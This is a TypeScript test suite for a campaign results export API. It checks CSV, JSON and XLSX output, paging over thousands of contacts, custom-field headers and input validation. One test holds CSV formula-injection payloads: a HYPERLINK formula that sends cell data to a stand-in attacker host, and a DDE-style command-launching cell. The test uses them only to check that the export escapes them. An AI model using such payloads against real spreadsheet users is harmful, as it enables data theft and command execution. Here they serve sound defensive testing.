import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { dialects } from "../helpers/stores.ts";
import {
  type ApiFixture,
  apiFixture,
  createCampaignViaApi,
  insertAttempt,
  insertContacts,
} from "./helpers.ts";

const T0 = Date.UTC(2026, 0, 5, 12, 0, 0);
/** More than two export pages (1,000 rows each), so paging and the custom-field pre-pass are exercised. */
const N = 2345;

const BASE_HEADERS = [
  "id",
  "external_id",
  "phone",
  "phones",
  "status",
  "attempts",
  "last_outcome",
  "last_attempt_at",
  "last_talk_sec",
  "success_talk_sec",
  "last_agent_id",
  "last_disposition",
  "last_disposed_by",
];

for (const dialect of dialects()) {
  describe(`export [${dialect.name}]`, () => {
    let f: ApiFixture;
    let campaignId: number;
    let ids: number[];

    before(async () => {
      f = await apiFixture(dialect.open);
      const c = await createCampaignViaApi(f, { name: "export" });
      campaignId = c.id;
      const at = { accountId: f.accountId, campaignId, listId: c.listId };
      const specs = Array.from({ length: N }, (_, i) => ({
        external_id: `ext-${i}`,
        phones: JSON.stringify([`+1212555${String(i).padStart(4, "0")}`]),
        custom: JSON.stringify(
          i === N - 1 ? { name: `n${i}`, late_field: "only here", status: "vip" } : { name: `n${i}` },
        ),
      }));
      ids = [];
      for (let i = 0; i < specs.length; i += 500)
        ids.push(...(await insertContacts(f.store, at, specs.slice(i, i + 500))));
      // Contact 0: called twice, the second call a success of 42 s. Contact 1: two phones, one busy attempt.
      await f.store.db
        .updateTable("contacts")
        .set({ status: "succeeded", attempts: 2, last_outcome: "human", last_attempt_at: T0 + 60_000 })
        .where("id", "=", ids[0])
        .execute();
      await f.store.db
        .updateTable("contacts")
        .set({ phones: JSON.stringify(["+12125550001", "+12125550002"]), attempts: 1, last_outcome: "busy" })
        .where("id", "=", ids[1])
        .execute();
      const base = { accountId: f.accountId, campaignId };
      await insertAttempt(f.store, {
        ...base,
        contactId: ids[0],
        seq: 1,
        startedAt: T0,
        outcome: "human",
        talkSec: 3,
        success: 0,
      });
      await insertAttempt(f.store, {
        ...base,
        contactId: ids[0],
        seq: 2,
        startedAt: T0 + 60_000,
        outcome: "human",
        talkSec: 42,
        success: 1,
      });
      await insertAttempt(f.store, {
        ...base,
        contactId: ids[1],
        seq: 1,
        startedAt: T0,
        outcome: "busy",
        talkSec: 0,
      });
      // Contact 0's first call was taken by agent 7 and disposed of by it; its second by agent 9, no
      // disposition (yet): the export shows the latest agent who took a call, and the latest disposition
      // with the agent who set it.
      await f.store.db
        .updateTable("attempts")
        .set({ agent_id: 7, disposition: "call back later", disposition_at: T0 + 30_000, disposed_by: 7 })
        .where("contact_id", "=", ids[0])
        .where("seq", "=", 1)
        .execute();
      await f.store.db
        .updateTable("attempts")
        .set({ agent_id: 9 })
        .where("contact_id", "=", ids[0])
        .where("seq", "=", 2)
        .execute();
    });
    after(() => f.close());

    const download = (format?: string) =>
      f.call({
        method: "GET",
        url: `/v1/campaigns/${campaignId}/export${format ? `?format=${format}` : ""}`,
      });

    test("CSV: header with every custom field, one row per contact, talk times from the attempts", async () => {
      const res = await download("csv");
      assert.equal(res.statusCode, 200);
      assert.equal(res.headers["content-type"], "text/csv; charset=utf-8");
      assert.equal(
        res.headers["content-disposition"],
        `attachment; filename="campaign-${campaignId}-results.csv"`,
      );
      const rows = parse(res.body, { columns: true }) as Record<string, string>[];
      assert.equal(rows.length, N);
      assert.deepEqual(Object.keys(rows[0]), [...BASE_HEADERS, "name", "late_field", "custom.status"]);
      assert.deepEqual(rows[0], {
        id: String(ids[0]),
        external_id: "ext-0",
        phone: "+12125550000",
        phones: "+12125550000",
        status: "succeeded",
        attempts: "2",
        last_outcome: "human",
        last_attempt_at: new Date(T0 + 60_000).toISOString(),
        last_talk_sec: "42",
        success_talk_sec: "42",
        last_agent_id: "9",
        last_disposition: "call back later",
        last_disposed_by: "7",
        name: "n0",
        late_field: "",
        "custom.status": "",
      });
      assert.equal(rows[1].phones, "+12125550001;+12125550002");
      assert.deepEqual([rows[1].last_talk_sec, rows[1].success_talk_sec], ["0", ""]);
      assert.deepEqual(
        [rows[N - 1].late_field, rows[N - 1]["custom.status"], rows[N - 1].status],
        ["only here", "vip", "pending"],
      );
      assert.deepEqual(
        rows.map((r) => Number(r.id)),
        ids,
      );
    });

    test("CSV: a cell a spreadsheet would run as a formula is kept as text; numbers and phones stay", async () => {
      const c = await createCampaignViaApi(f, { name: "formulas" });
      await insertContacts(f.store, { accountId: f.accountId, campaignId: c.id, listId: c.listId }, [
        {
          external_id: '=HYPERLINK("http://evil.example/?"&A1,"click")',
          phones: JSON.stringify(["+12125550199"]),
          custom: JSON.stringify({
            "=cmd": "@SUM(1,1)",
            plus: "+cmd|' /C calc'!A0",
            minus: "-2+SUM(A1:A9)",
            n: "-5",
          }),
        },
      ]);
      const res = await f.call({ method: "GET", url: `/v1/campaigns/${c.id}/export?format=csv` });
      const [row] = parse(res.body, { columns: true }) as Record<string, string>[];
      assert.equal(row.external_id, `'=HYPERLINK("http://evil.example/?"&A1,"click")`);
      assert.equal(row["'=cmd"], "'@SUM(1,1)", "the header from the file is made inert too");
      assert.equal(row.plus, "'+cmd|' /C calc'!A0");
      assert.equal(row.minus, "'-2+SUM(A1:A9)");
      assert.equal(row.n, "-5");
      assert.equal(row.phone, "+12125550199");
      const json = (await f.call({ method: "GET", url: `/v1/campaigns/${c.id}/export?format=json` })).json();
      assert.equal(json[0].minus, "-2+SUM(A1:A9)", "JSON keeps the values as they are");
    });

    test("CSV is the default format", async () => {
      const res = await download();
      assert.equal(res.headers["content-type"], "text/csv; charset=utf-8");
      assert.ok(res.rawPayload.subarray(0, 3).toString("hex") !== "efbbbf", "no byte order mark unasked");
    });

    test("CSV with bom=true starts with a UTF-8 byte order mark (for Excel); a bom that is no boolean is a 400", async () => {
      const url = `/v1/campaigns/${campaignId}/export?format=csv&bom=true`;
      const res = await f.call({ method: "GET", url });
      assert.equal(res.statusCode, 200);
      assert.equal(res.rawPayload.subarray(0, 3).toString("hex"), "efbbbf");
      assert.equal(parse(res.body, { columns: true, bom: true }).length, N);
      const bad = await f.call({ method: "GET", url: `/v1/campaigns/${campaignId}/export?bom=maybe` });
      assert.equal(bad.statusCode, 400);
      assert.equal(bad.json().error.field, "querystring.bom");
    });

    test("JSON: a streamed array of flat objects", async () => {
      const res = await download("json");
      assert.equal(res.statusCode, 200);
      assert.equal(res.headers["content-type"], "application/json; charset=utf-8");
      assert.equal(
        res.headers["content-disposition"],
        `attachment; filename="campaign-${campaignId}-results.json"`,
      );
      const rows = res.json() as Record<string, unknown>[];
      assert.equal(rows.length, N);
      assert.deepEqual(rows[0], {
        id: ids[0],
        external_id: "ext-0",
        phone: "+12125550000",
        phones: ["+12125550000"],
        status: "succeeded",
        attempts: 2,
        last_outcome: "human",
        last_attempt_at: new Date(T0 + 60_000).toISOString(),
        last_talk_sec: 42,
        success_talk_sec: 42,
        last_agent_id: 9,
        last_disposition: "call back later",
        last_disposed_by: 7,
        name: "n0",
      });
      assert.deepEqual(rows[1].phones, ["+12125550001", "+12125550002"]);
      assert.deepEqual(
        [rows[N - 1].late_field, rows[N - 1]["custom.status"], rows[N - 1].status],
        ["only here", "vip", "pending"],
      );
    });

    test("XLSX: one sheet with the same header and rows", async () => {
      const res = await download("xlsx");
      assert.equal(res.statusCode, 200);
      assert.equal(
        res.headers["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      );
      assert.equal(
        res.headers["content-disposition"],
        `attachment; filename="campaign-${campaignId}-results.xlsx"`,
      );
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const sheet = workbook.getWorksheet("results")!;
      assert.equal(sheet.rowCount, N + 1);
      const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
      assert.deepEqual(values(1), [...BASE_HEADERS, "name", "late_field", "custom.status"]);
      const first = values(2);
      assert.deepEqual(first.slice(0, 13), [
        ids[0],
        "ext-0",
        "+12125550000",
        "+12125550000",
        "succeeded",
        2,
        "human",
        new Date(T0 + 60_000).toISOString(),
        42,
        42,
        9,
        "call back later",
        7,
      ]);
      assert.equal(first[13], "n0");
      assert.equal(values(3)[3], "+12125550001;+12125550002");
      const last = values(N + 1);
      assert.deepEqual([last[0], last[14], last[15]], [ids[N - 1], "only here", "vip"]);
    });

    test("an empty campaign exports a header only (CSV) and an empty array (JSON)", async () => {
      const empty = await createCampaignViaApi(f, { name: "empty" });
      const csv = await f.call({ method: "GET", url: `/v1/campaigns/${empty.id}/export?format=csv` });
      assert.equal(csv.body.trim(), BASE_HEADERS.join(","));
      const json = await f.call({ method: "GET", url: `/v1/campaigns/${empty.id}/export?format=json` });
      assert.deepEqual(json.json(), []);
    });

    test("a custom field named like a base column never shares a header with another field", async () => {
      const c = await createCampaignViaApi(f, { name: "clash" });
      const at = { accountId: f.accountId, campaignId: c.id, listId: c.listId };
      const custom = { status: "VIP", "custom.status": "gold", "custom.status#2": "x", id: "crm" };
      await insertContacts(f.store, at, [{ custom: JSON.stringify(custom) }]);
      const extra = ["custom.status#3", "custom.status", "custom.status#2", "custom.id"];
      const csv = await f.call({ method: "GET", url: `/v1/campaigns/${c.id}/export?format=csv` });
      const [header, row] = parse(csv.body) as string[][];
      assert.deepEqual(header, [...BASE_HEADERS, ...extra]);
      assert.deepEqual(row.slice(BASE_HEADERS.length), ["VIP", "gold", "x", "crm"]);
      const json = await f.call({ method: "GET", url: `/v1/campaigns/${c.id}/export?format=json` });
      const [record] = json.json() as Record<string, unknown>[];
      assert.deepEqual(
        extra.map((h) => record[h]),
        ["VIP", "gold", "x", "crm"],
      );
    });

    test("an unknown format is a 400", async () => {
      const res = await download("pdf");
      assert.equal(res.statusCode, 400);
      assert.equal((res.json() as { error: { field: string } }).error.field, "querystring.format");
    });
  });
}
